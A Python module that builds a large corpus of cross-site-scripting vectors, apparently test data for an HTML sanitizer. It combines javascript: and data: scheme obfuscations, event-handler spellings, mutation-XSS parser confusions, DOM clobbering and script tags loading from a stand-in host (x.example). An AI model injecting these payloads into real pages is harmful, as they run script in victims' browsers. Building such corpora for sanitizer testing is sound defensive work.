"""The table of HTML that would run something, load something or spoil the page around it. All of it written by us."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = 'alert(1)'
PICTURE = f'<img src=x onerror={RUN}>'

# How a scheme that runs can be written so that a browser still reads it (URL Standard, 4.4: controls and blanks around
# it go, tabs and line ends go anywhere; HTML, 13.2.5.72: references are resolved before).
SCHEMES = tuple(
    f'{before}{scheme}{after}'
    for before, scheme, after in (
        ('', 'javascript', ':'), ('', 'JaVaScRiPt', ':'), (' ', 'javascript', ':'), ('\x01', 'javascript', ':'),
        ('&#1;', 'javascript', ':'), ('&#x20;&#12;', 'javascript', ':'), ('', 'java\tscript', ':'),
        ('', 'java\nscript', ':'), ('', 'java&#9;script', ':'), ('', 'java&Tab;script', ':'),
        ('', 'java&NewLine;script', ':'), ('', 'javascript', '&#58;'), ('', 'javascript', '&#x3a;'),
        ('', 'javascript', '&colon;'), ('&#106;', 'avascript', ':'), ('&#x6A;', 'avascript', ':'),
        ('&#0000106', 'avascript', ':'), ('\u200b', 'javascript', ':'), ('\ufeff', 'javascript', ':'),
        ('', 'java\x00script', ':'), ('', 'java\u00adscript', ':'), ('', 'ｊａｖａｓｃｒｉｐｔ', ':'), ('', 'javascript', '：'),
        ('', 'vbscript', ':'), ('', 'livescript', ':'), ('', 'mocha', ':'), ('view-source:', 'javascript', ':'),
        ('feed:', 'javascript', ':'), ('jar:', 'javascript', ':'), ('', 'data', ':text/html,<script>alert(1)</script>'),
        ('', 'data', ':text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='), ('', 'DATA', ':image/svg+xml,<svg onload=alert(1)>'),
        ('', 'blob', ':https://x.example/1'), ('', 'file', ':///etc/passwd'), ('', 'about', ':blank'),
        ('', 'filesystem', ':https://x.example/'), ('', 'intent', '://x#Intent;end'), ('', 'ms-word', ':ofe|u|https://x'),
        ('', 'javascript', ':/*https://x.example/*/'), ('', 'javascript', '://x.example/%0a'),
    )
)  # fmt: skip
# Where an address may stand.
PLACES = (
    '<a href="{}">t</a>',
    "<a href='{}'>t</a>",
    '<area href="{}">',
    '<img src="{}">',
    '<img srcset="{} 1x">',
    '<source srcset="{} 1x"><source src="{}">',
    '<video src="{}" poster="{}"></video>',
    '<audio src="{}"></audio>',
    '<form action="{}"><button formaction="{}">t</button></form>',
    '<input type=image src="{}" formaction="{}">',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<applet code="{}"></applet>',
    '<link rel=stylesheet href="{}">',
    '<base href="{}">',
    '<body background="{}">',
    '<table background="{}"><tr><td background="{}">t</table>',
    '<blockquote cite="{}">t</blockquote>',
    '<q cite="{}">t</q>',
    '<ins cite="{}">t</ins>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<svg><a xlink:href="{}"><text>t</text></a></svg>',
    '<svg><use href="{}"/></svg>',
    '<svg><image href="{}"/></svg>',
    '<svg><set attributeName=href to="{}"/></svg>',
    '<svg><animate attributeName=xlink:href values="{}"/></svg>',
    '<math href="{}">t</math>',
    '<math><maction actiontype="statusline" xlink:href="{}">t</maction></math>',
    '<p style="background:url({})">t</p>',
    '<a href="https://x.example/" ping="{}">t</a>',
    '<button formaction="{}">t</button>',
    '<isindex action="{}">',
    '<frameset><frame src="{}"></frameset>',
    '<layer src="{}"></layer>',
    '<bgsound src="{}">',
    '<track src="{}">',
    '<portal src="{}"></portal>',
    '<html manifest="{}">',
    '<command icon="{}">',
    '<div data-href="{}" itemprop="url" itemid="{}">t</div>',
)
_EVENT_WORDS = (
    'onclick ondblclick onload onerror onfocus onblur onmouseover onmouseenter onpointerover ontoggle '
    'onbeforetoggle onanimationstart ontransitionend onscroll onwheel oncut onpaste onbegin onend onrepeat onstart '
    'onfinish onbounce onloadstart oncanplay oncuechange onhashchange onpageshow onbeforeunload onmessage onresize '
    'onkeydown oninput onsubmit onreset onselect oninvalid onsearch ondrag ondrop oncontextmenu onauxclick '
    'ongotpointercapture onsecuritypolicyviolation onslotchange onformdata onbeforeinput onscrollend onbeforematch '
    'oncontentvisibilityautostatechange'
)
EVENTS = tuple(_EVENT_WORDS.split())
# How a handler can be written.
SPELLINGS = (
    '<p {}={run}>t</p>',
    '<p {}="{run}">t</p>',
    "<p {}='{run}'>t</p>",
    '<p {} = {run}>t</p>',
    '<p/{}={run}>t</p>',
    '<p\n{}\n=\n{run}>t</p>',
    '<p\x0c{}={run}>t</p>',
    '<p x=1{}={run}>t</p>',
    '<p "{}={run}">t</p>',
    '<img src="x"{}={run}>',
    '<img src=`x`{}={run}>',
    '<a href="https://x.example/"\x00{}={run}>t</a>',
    '<p \x00{}={run}>t</p>',
    '<p &#32;{}={run}>t</p>',
    '<P {}={run} {}="" >t</P>',
    '<p\u00a0{}={run}>t</p>',
    '<details open {}={run}><summary>t</summary></details>',
    '<svg {}={run}>t</svg>',
    '<math {}={run}>t</math>',
    '<x-own {}={run} tabindex=1>t</x-own>',
    '<body {}={run}>',
    '<video {}={run} autoplay><source {}={run}></video>',
    '<marquee {}={run}>t</marquee>',
)
# Markup that one parser reads in one way and the next in another.
MUTATIONS = (
    f'<!-->{PICTURE}-->', f'<!--->{PICTURE}-->', f'<!-- --!>{PICTURE}-->', f'<!--{PICTURE}--!>{PICTURE}',
    f'<!-- a -- > {PICTURE} -->', f'<!-{PICTURE}->', f'<!{PICTURE}>', f'<?{PICTURE}?>', f'</{PICTURE}>',
    f'<![CDATA[{PICTURE}]]>', f'<svg><![CDATA[</svg>{PICTURE}]]></svg>', f'<math><![CDATA[{PICTURE}]]>',
    f'<!--[if gte IE 4]>{PICTURE}<![endif]-->', f'<![if true]>{PICTURE}<![endif]>', f'<!doctype html [<!ENTITY x "{PICTURE}">]>&x;',
    f'<noscript><p title="</noscript>{PICTURE}">', f'<noscript><!--</noscript>{PICTURE}-->', f'<noembed><!--</noembed>{PICTURE}-->',
    f'<noframes><p title="</noframes>{PICTURE}">', f'<style><!--</style>{PICTURE}-->', f'<style></style{PICTURE}',
    f'<title><p title="</title>{PICTURE}">', f'<textarea><p title="</textarea>{PICTURE}">', f'<xmp><p title="</xmp>{PICTURE}">',
    f'<iframe><p title="</iframe>{PICTURE}">', f'<plaintext>{PICTURE}', f'<listing>&lt;img src=x onerror={RUN}&gt;</listing>',
    f'<template>{PICTURE}</template>', f'<template><script>{RUN}</script></template>', f'<div><template shadowrootmode=open>{PICTURE}</template></div>',
    f'<select><template>{PICTURE}</template></select>', f'<select><iframe></select>{PICTURE}', f'<select><style><select>{PICTURE}',
    f'<select><noscript><p title="</noscript></select>{PICTURE}">', f'<option><style></option></select>{PICTURE}</style>',
    f'<svg></p><style><a id="</style>{PICTURE}">', f'<math></p><style><a title="</style>{PICTURE}">',
    f'<math><mtext><table><mglyph><style><math href=javascript:{RUN}>click</math>', f'<math><mtext><table><mglyph><style>{PICTURE}</style></mglyph></table></mtext></math>',
    f'<math><mtext><table><mglyph><style><!--</style>{PICTURE}--></table>', f'<math><mtext><option><mglyph><svg><mtext><textarea><path id="</textarea>{PICTURE}">',
    f'<form><math><mtext></form><form><mglyph><style></math>{PICTURE}', f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>{PICTURE}">',
    f'<math><annotation-xml encoding="text/html"><style>{PICTURE}</style></annotation-xml></math>', f'<math><annotation-xml encoding="text/html"><script>{RUN}</script></annotation-xml>',
    f'<svg><foreignobject><style><!--</style>{PICTURE}-->', f'<svg><desc><style><a title="</style>{PICTURE}">', f'<svg><title><style><!--</style>{PICTURE}-->',
    f'<svg><style>&lt;img src=x onerror={RUN}&gt;</style></svg>', f'<svg><script>{RUN}</script></svg>', f'<svg><script href="data:,{RUN}"/></svg>',
    f'<svg><script xlink:href="data:,{RUN}"></script></svg>', f'<svg><animate onbegin={RUN} attributeName=x dur=1s>', f'<svg><set onend={RUN} attributeName=x>',
    f'<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{RUN}</handler></svg>', f'<svg><discard onbegin={RUN}>',
    f'<table><td><form><table></form>{PICTURE}', f'<table><colgroup><style></colgroup>{PICTURE}</style>', f'<table><caption><svg><desc>{PICTURE}',
    f'<a><table><a title="</table>{PICTURE}">', f'<p><table><p title="{PICTURE}"></table>', f'<b><p><a></b>{PICTURE}</a>',
    f'<frameset><p title="{PICTURE}">', f'<object><param name=movie value="javascript:{RUN}"></object>', f'<object data="x"><p>{PICTURE}',
    f'<xss style="x:expression({RUN})">', '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">', f'<p style="x:\\65xpression({RUN})">',
    f'<style>@import "javascript:{RUN}";body{{background:url("javascript:{RUN}")}}</style>', '<link rel=import href=//x.example>', '<link rel=preload as=script href=//x.example/x.js>',
    f'<script>{RUN}</script>', '<SCRIPT SRC=//x.example/x.js></SCRIPT>', f'<script/x>{RUN}</script/x>', f'<scr<script>ipt>{RUN}</scr</script>ipt>', f'<<script>{RUN};//<</script>',
    f'<script\x0c>{RUN}</script >', f'<script\n>{RUN}', f'<\x00script>{RUN}</script>', f'<scr\x00ipt>{RUN}</script>', f'<ſcript>{RUN}</ſcript>', f'＜script＞{RUN}＜/script＞', f'<%00script>{RUN}',
    f'&lt;script&gt;{RUN}&lt;/script&gt;', f'&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;', f'&#60;script&#62;{RUN}&#60;/script&#62;', f'&LT;script&GT;{RUN}', f'+ADw-script+AD4-{RUN}+ADw-/script+AD4-',
    f'%3Cscript%3E{RUN}%3C/script%3E', f'\\u003cscript\\u003e{RUN}', f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>', f"<iframe srcdoc='<script>{RUN}</script>'>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">', '<meta http-equiv="Set-Cookie" content="a=b">', '<meta charset="utf-7">', '<meta http-equiv=Content-Security-Policy content="script-src *">',
    '<base href="https://x.example/"><a href="a">t</a>', '<base target="_top">', '<embed src="data:image/svg+xml;base64,AAAA">', f'<marquee onstart={RUN}>t</marquee>', f'<keygen autofocus onfocus={RUN}>',
    f'<input autofocus onfocus={RUN}>', f'<textarea autofocus onfocus={RUN}></textarea>', f'<video><source onerror={RUN}></video>', f'<details open ontoggle={RUN}>t</details>', f'<dialog open onclose={RUN}>t</dialog>',
    '<form id=location><input name=href></form>', '<img name=cookie><a id=body></a><form name=getElementById>', '<a id=x><a id=x name=y href="cid:z">', '<p id="main" class="skip">t</p>', '<div id="e-000000000000">t</div>',
    '</div></article></section></main></body></html>', '</p></div></div></div><h1>t</h1>', '</article><article class="h-entry" id="e-1"><h3>t</h3>', '</title></textarea></style></noscript></template>' + PICTURE,
    '<div style="position:fixed;inset:0;z-index:9999">t</div>', '<p contenteditable autofocus tabindex=0 accesskey=x>t</p>', '<div popover id=p>t</div><button popovertarget=p>t</button>', '<p is="x-own" part=x slot=y exportparts=z>t</p>',
    '<a href="https://user:password@x.example/">t</a>', '<a href="//x.example">t</a>', '<a href="\\\\x.example\\y">t</a>', '<a href="https:x.example">t</a>', '<a href="https://x.example/&quot;onclick=alert(1) x=&quot;">t</a>', '<a href=https://x.example/`>t</a>',
    '<a href="https://x.example/" target=_blank rel=opener download>t</a>', '<a href="mailto:a@b.example?cc=c@d.example">t</a>', '<a href="tel:110">t</a>', '<a href="#x" onclick>t</a>', '<a href>t</a>', '<a href="">t</a>',
    '<img src="https://x.example/a b\tc\n.png">', '<img src="https://x.example/" srcset="https://x.example/ 1x, javascript:alert(1) 2x">', '<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>', '<img src=x:alert(1) usemap="#m" ismap longdesc=javascript:alert(1)>',
    '\u202e<b>txet</b>\u202d', '\u2066<p>t', '<p dir=rtl>t</p>', '<bdo dir=rtl>t</bdo>', '\u2028<p>t</p>\u2029', '<p title="\u202e">t</p>', '&#x202e;t', '&#0;&#xD800;&#xDFFF;&#xFFFE;&#x110000;&#128;&#x85;t', '\ud83d\ude00t'.encode('utf-16', 'surrogatepass').decode('utf-16'),
    '<p' * 200, '<' * 500, '&' * 500, '<!' * 300, '<!--' * 100, '<a href="' * 60, '</p>' * 300, '<b>' * 190 + 't', '<table>' * 60, '<svg>' * 60, '<math><mtext>' * 60, ']]>' * 50, '<p title="' + 'x' * 5000, '&#' + '9' * 3000 + ';', '<p ' + 'a=b ' * 3000 + '>t',
)  # fmt: skip


def vectors() -> Iterator[str]:
    """All of it: each place with each scheme, each event in each spelling, and what stands alone."""
    for place, scheme in product(PLACES, SCHEMES):
        yield place.replace('{}', f'{scheme}{RUN}')
    for number, event in enumerate(EVENTS):
        for spelling in (SPELLINGS[number % len(SPELLINGS)], SPELLINGS[(number * 7 + 3) % len(SPELLINGS)]):
            for name in (event, event.upper(), event.title()):
                yield spelling.replace('{run}', RUN).replace('{}', name)
    yield from MUTATIONS


VECTORS = tuple(dict.fromkeys(vectors()))
